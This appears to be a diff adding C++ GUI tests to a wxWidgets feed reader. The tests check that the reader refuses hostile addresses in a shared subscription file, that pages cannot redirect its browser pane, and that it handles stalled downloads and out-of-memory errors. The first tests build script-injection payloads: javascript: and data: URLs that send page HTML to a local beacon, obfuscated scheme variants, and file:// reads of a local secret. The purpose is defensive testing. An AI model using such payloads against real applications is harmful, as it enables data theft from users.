@@ -1,0 +1,313 @@
+// Attacks through the window: a shared subscription file whose addresses try to run script or
+// show local files, pages that try to leave the web, servers that trickle, and running out of
+// memory in the middle of an action.
+
+#include <wx/evtloop.h>
+#include <wx/webview.h>
+
+#include <chrono>
+#include <filesystem>
+#include <new>
+#include <utility>
+
+#include "app_fixture.h"
+#include "dialog_test_util.h"
+#include "fetch/http_download.h"
+#include "gui/controls/list_ctrl_box.h"
+#include "gui/views/article_view.h"
+#include "gui/views/browser_view.h"
+#include "gui/views/varlo_view.h"
+#include "platform/message_pump.h"
+#include "screenshot.h"
+#include "shell/command_ids.h"
+#include "support/loopback_server.h"
+
+namespace varlo::test {
+namespace {
+
+const char* const kFeed =
+    "<?xml version=\"1.0\" encoding=\"utf-8\"?><rss version=\"2.0\"><channel><title>t</title>"
+    "<item><title>one</title></item></channel></rss>";
+
+// What the browser pane says of an address it refuses.
+std::string Refusal(const std::string& address) {
+    return address + " は http または https のアドレスではありません";
+}
+
+std::string Base64(const std::string& bytes) {
+    static const char kDigits[] =
+        "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
+    std::string out;
+    for (size_t i = 0; i < bytes.size(); i += 3) {
+        uint32_t group = static_cast<uint8_t>(bytes[i]) << 16;
+        if (i + 1 < bytes.size()) group |= static_cast<uint8_t>(bytes[i + 1]) << 8;
+        if (i + 2 < bytes.size()) group |= static_cast<uint8_t>(bytes[i + 2]);
+        out += kDigits[(group >> 18) & 63];
+        out += kDigits[(group >> 12) & 63];
+        out += i + 1 < bytes.size() ? kDigits[(group >> 6) & 63] : '=';
+        out += i + 2 < bytes.size() ? kDigits[group & 63] : '=';
+    }
+    return out;
+}
+
+class HostileInput : public AppTest {
+  protected:
+    void SetUp() override {
+        AppTest::SetUp();
+        beacon.Route("/page.html", Ok("<html><head><title>page</title></head><body>p</body></html>",
+                                      "text/html"));
+        beacon.Route("/feed.xml", Ok(kFeed));
+    }
+    void TearDown() override {
+        CHttpDownload::SetLimits(DownloadLimits{});
+        AppTest::TearDown();
+    }
+    // A subscription file of sites given by (web address, feed address).
+    std::string Subscriptions(const std::vector<std::pair<std::string, std::string>>& sites) {
+        std::string xml =
+            "<?xml version=\"1.0\" encoding=\"utf-8\" ?><opml version=\"1.0\"><head>"
+            "<title>t</title></head><body>";
+        int n = 0;
+        for (const auto& [html, feed] : sites) {
+            // Written as a careless tool would: raw, never escaped.
+            xml += "<outline title=\"s" + std::to_string(n++) + "\" htmlUrl=\"" + html + "\"";
+            if (!feed.empty()) xml += " xmlUrl=\"" + feed + "\"";
+            xml += "/>";
+        }
+        xml += "</body></opml>";
+        const std::string path = dir.File("shared.opml");
+        WriteFile(path, xml);
+        return path;
+    }
+    CVarloView& Sites() { return *Frame().SiteList(); }
+    CListCtrlBox& SiteRows() { return *Sites().GetList(); }
+    wxWebView* Web() { return Frame().Browser()->GetWebView(); }
+    std::string Url() { return std::string(Web()->GetCurrentURL().utf8_str()); }
+    // Requests that reached the beacon other than for the given targets.
+    std::vector<std::string> StrayRequests(std::initializer_list<std::string> expected) {
+        std::vector<std::string> stray;
+        for (const auto& request : beacon.Requests()) {
+            if (std::find(expected.begin(), expected.end(), request.target) == expected.end()) {
+                stray.push_back(request.target);
+            }
+        }
+        return stray;
+    }
+    // Dispatches events until `done` holds (the browser engine works in another process).
+    template <typename Done>
+    bool WaitUntil(Done done) {
+        const auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(30);
+        wxEventLoopBase* loop = wxEventLoopBase::GetActive();
+        while (std::chrono::steady_clock::now() < deadline) {
+            if (done()) {
+                PumpEvents();
+                return true;
+            }
+            loop->DispatchTimeout(50);
+            wxTheApp->ProcessPendingEvents();
+        }
+        return false;
+    }
+    bool WaitForPage(const std::string& suffix) {
+        return WaitUntil([&] {
+            const std::string url = Url();
+            return !Web()->IsBusy() && url.size() >= suffix.size() &&
+                   url.compare(url.size() - suffix.size(), suffix.size(), suffix) == 0;
+        });
+    }
+    void Click(int row) {
+        SiteRows().SelectItem(row);
+        PumpEvents();
+    }
+
+    LoopbackServer beacon;
+};
+
+TEST_F(HostileInput, AddressesOfASharedSubscriptionFileLoadNothingButWebPages) {
+    const std::string secret = dir.File("secret.html");
+    WriteFile(secret, "<html><body><script>new Image().src='" + beacon.Url("/file") +
+                          "'</script>secret</body></html>");
+    const std::string steal = "new Image().src='" + beacon.Url("/js?") +
+                              "'+encodeURIComponent(document.documentElement.outerHTML)";
+    const std::vector<std::string> hostile = {
+        "data:text/html;base64," +
+            Base64("<script>new Image().src='" + beacon.Url("/data") + "'</script>"),
+        "data:text/html,<body onload=location='" + beacon.Url("/onload") + "'",
+        "file://" + secret,
+        secret,
+        "javascript:" + steal,
+        "  JavaScript:" + steal,
+        "java\tscript:" + steal,
+        "vbscript:msgbox(1)",
+    };
+    std::vector<std::pair<std::string, std::string>> sites = {{beacon.Url("/page.html"), ""}};
+    for (const auto& address : hostile) sites.push_back({address, ""});
+    sites.push_back({"mailto:someone@example.com", ""});
+    ASSERT_TRUE(Start({Subscriptions(sites)}));
+
+    Click(0);
+    ASSERT_TRUE(WaitForPage("/page.html"));
+    RecordingLauncher launcher;
+    for (size_t i = 0; i < hostile.size(); ++i) {
+        SCOPED_TRACE(hostile[i]);
+        MessageCapture messages;
+        Click(static_cast<int>(i + 1));
+        ASSERT_EQ(messages.Messages().size(), 1u);
+        // The message names the address as the file holds it (tabs in it as the file gives them).
+        EXPECT_EQ(messages.Messages()[0], Refusal(hostile[i]));
+        EXPECT_EQ(Url(), beacon.Url("/page.html"));
+    }
+    {
+        MessageCapture messages;
+        Click(static_cast<int>(sites.size() - 1));
+        EXPECT_TRUE(messages.Messages().empty());
+        EXPECT_EQ(launcher.opened, std::vector<std::string>{"mailto:someone@example.com"});
+    }
+    // Let anything that might have started finish before looking at the beacon.
+    Frame().RunCommand(cmd::kRefresh);
+    ASSERT_TRUE(WaitForPage("/page.html"));
+    EXPECT_EQ(Url(), beacon.Url("/page.html"));
+    EXPECT_EQ(StrayRequests({"/page.html"}), std::vector<std::string>{});
+}
+
+TEST_F(HostileInput, APageCannotTakeThePaneAwayFromTheWeb) {
+    // Each page sends the pane somewhere else as soon as it is shown.
+    auto page = [this](const std::string& target) {
+        return Ok("<html><head><title>go</title></head><body><a id=a href=\"" + target +
+                      "\">x</a><script>document.getElementById('a').click()</script></body></html>",
+                  "text/html");
+    };
+    beacon.Route("/to-custom.html", page("varlo-evil:" + beacon.Url("/custom")));
+    beacon.Route("/to-mail.html", page("mailto:someone@example.com"));
+    beacon.Route("/to-web.html", page(beacon.Url("/page.html")));
+    ASSERT_TRUE(Start({Subscriptions({{beacon.Url("/to-custom.html"), ""},
+                                      {beacon.Url("/to-mail.html"), ""},
+                                      {beacon.Url("/to-web.html"), ""}})}));
+    RecordingLauncher launcher;
+    MessageCapture messages;
+    Click(0);
+    ASSERT_TRUE(WaitUntil([&] { return !messages.Messages().empty(); }));
+    EXPECT_EQ(messages.Messages(),
+              std::vector<std::string>{Refusal("varlo-evil:" + beacon.Url("/custom"))});
+    EXPECT_EQ(Url(), beacon.Url("/to-custom.html"));
+
+    Click(1);
+    ASSERT_TRUE(WaitUntil([&] { return !launcher.opened.empty(); }));
+    EXPECT_EQ(launcher.opened, std::vector<std::string>{"mailto:someone@example.com"});
+
+    // Links between web pages go on as before.
+    Click(2);
+    ASSERT_TRUE(WaitForPage("/page.html"));
+    EXPECT_EQ(messages.Messages().size(), 1u);
+    EXPECT_EQ(StrayRequests({"/to-custom.html", "/to-mail.html", "/to-web.html", "/page.html"}),
+              std::vector<std::string>{});
+}
+
+TEST_F(HostileInput, ATricklingFeedFailsWithinTheLimits) {
+    DownloadLimits limits;
+    limits.minSpeedTime = std::chrono::milliseconds(300);
+    CHttpDownload::SetLimits(limits);
+    Response trickle = Ok(std::string(5000, 'x'));
+    trickle.trickle = std::chrono::milliseconds(25);
+    beacon.Route("/trickle.xml", trickle);
+    ASSERT_TRUE(Start({Subscriptions({{"", beacon.Url("/trickle.xml")}})}));
+    MessageCapture messages;
+    Click(0);
+    EXPECT_EQ(messages.Messages(), (std::vector<std::string>{"操作がタイムアウトしました",
+                                                             "ダウンロードに失敗しました"}));
+    EXPECT_FALSE(std::filesystem::exists(dir.File("down.xml")));
+}
+
+// The feed download of the site list: the server sends part of the feed and then nothing.
+class CancelFeed : public HostileInput {
+  protected:
+    void SetUp() override {
+        HostileInput::SetUp();
+        Response stalled = Ok(std::string(10000, 'x'));
+        stalled.stallAfter = 3000;
+        beacon.Route("/stalled.xml", stalled);
+    }
+    // Chooses the stalled site (row 1) after the good one (row 0); `whileWaiting` runs each
+    // time the download waits for the server.
+    void ChooseTheStalledSite(std::function<void()> whileWaiting) {
+        ASSERT_TRUE(Start(
+            {Subscriptions({{"", beacon.Url("/feed.xml")}, {"", beacon.Url("/stalled.xml")}})}));
+        Click(0);
+        ASSERT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
+        previous = ReadFile(dir.File("down.xml"));
+        const MessagePumpHook old = SetWaitingPumpHook(std::move(whileWaiting));
+        Click(1);
+        SetWaitingPumpHook(old);
+    }
+    void ExpectNothingChanged() {
+        EXPECT_EQ(ReadFile(dir.File("down.xml")), previous);
+        EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
+        EXPECT_FALSE(CHttpDownload::IsRunning());
+    }
+    std::string previous;
+};
+
+TEST_F(CancelFeed, EscapeInTheMainWindowCancelsIt) {
+    MessageCapture messages;
+    ChooseTheStalledSite([this] {
+        wxKeyEvent* escape = new wxKeyEvent(wxEVT_CHAR_HOOK);
+        escape->m_keyCode = WXK_ESCAPE;
+        Frame().GetEventHandler()->QueueEvent(escape);
+        wxTheApp->ProcessPendingEvents();
+    });
+    EXPECT_EQ(messages.Messages(), std::vector<std::string>{"ダウンロードに失敗しました"});
+    ExpectNothingChanged();
+}
+
+TEST_F(CancelFeed, TheStopCommandCancelsIt) {
+    MessageCapture messages;
+    ChooseTheStalledSite([this] { Frame().RunCommand(cmd::kStop); });
+    EXPECT_EQ(messages.Messages(), std::vector<std::string>{"ダウンロードに失敗しました"});
+    ExpectNothingChanged();
+}
+
+TEST_F(CancelFeed, AfterASecondItsProgressWindowShowsAndItsButtonCancels) {
+    MessageCapture messages(kIdOk);
+    bool pressed = false;
+    ChooseTheStalledSite([&] {
+        for (wxWindow* window : wxTopLevelWindows) {
+            if (pressed || window->GetLabel() != wxString::FromUTF8("ダウンロード")) continue;
+            if (!window->IsShown()) continue;
+            pressed = true;
+            PumpEvents();
+            SaveScreenshot(window, "feed_progress_window");
+            Press(static_cast<wxButton*>(window->FindWindow(1003)));
+        }
+    });
+    EXPECT_TRUE(pressed);
+    EXPECT_EQ(messages.Messages(),
+              (std::vector<std::string>{"中止しますか？", "ダウンロードに失敗しました"}));
+    ExpectNothingChanged();
+}
+
+TEST_F(HostileInput, RunningOutOfMemoryInTheWindowIsAMessageNotAnAbort) {
+    ASSERT_TRUE(Start({Subscriptions({{"", beacon.Url("/feed.xml")}})}));
+    MessageCapture messages;
+    // A handler of a window event, and a call made later, each run out of memory.
+    const int kFailingCommand = wxNewId();
+    Frame().Bind(
+        wxEVT_MENU, [](wxCommandEvent&) { throw std::bad_alloc(); }, kFailingCommand);
+    wxCommandEvent command(wxEVT_MENU, kFailingCommand);
+    Frame().HandleWindowEvent(command);
+    Frame().CallAfter([] { throw std::bad_alloc(); });
+    PumpEvents();
+    // And one during a download, in an event the download dispatches.
+    bool thrown = false;
+    ScopedMessagePumpHook hook([&] {
+        if (std::exchange(thrown, true)) return;
+        Frame().CallAfter([] { throw std::bad_alloc(); });
+        wxTheApp->ProcessPendingEvents();
+    });
+    Click(0);
+    EXPECT_EQ(messages.Messages(), std::vector<std::string>(3, "メモリが不足しています"));
+    // The window goes on: the feed was read all the same.
+    EXPECT_EQ(Frame().ArticleList()->GetList()->GetItemCount(), 1);
+}
+
+}  // namespace
+}  // namespace varlo::test
